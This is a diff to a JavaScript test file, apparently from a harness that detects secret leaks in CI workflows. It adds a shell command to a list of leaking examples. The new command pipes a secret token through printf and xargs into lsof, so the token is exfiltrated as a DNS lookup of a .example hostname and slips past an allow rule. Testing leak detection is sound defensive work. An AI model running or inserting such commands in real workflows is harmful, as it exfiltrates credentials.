@@ -46,7 +46,9 @@ steps:
   - { id: done, end: resolved }
 `;
 
-const LEAKING = ['lsof -n -i "@${{ inputs.tok }}.example"', 'ss -tn -- dst "${{ inputs.tok }}.example"'];
+const LEAKING = ['lsof -n -i "@${{ inputs.tok }}.example"', 'ss -tn -- dst "${{ inputs.tok }}.example"',
+  // Down a pipe: printf is allowed the secret, and xargs makes what it prints lsof's arguments (round 2).
+  "printf -- '-i@%s.example\\n' \"${{ inputs.tok }}\" | xargs lsof -n -P"];
 
 test('the programs ask the resolver for a name given them (the harness sees a leak)', { timeout: E2E_TEST_LIMIT_MS }, () => {
   const asked = namesAsked(LEAKING.map((s) => s.replace('${{ inputs.tok }}', SECRET)).join('\n'));
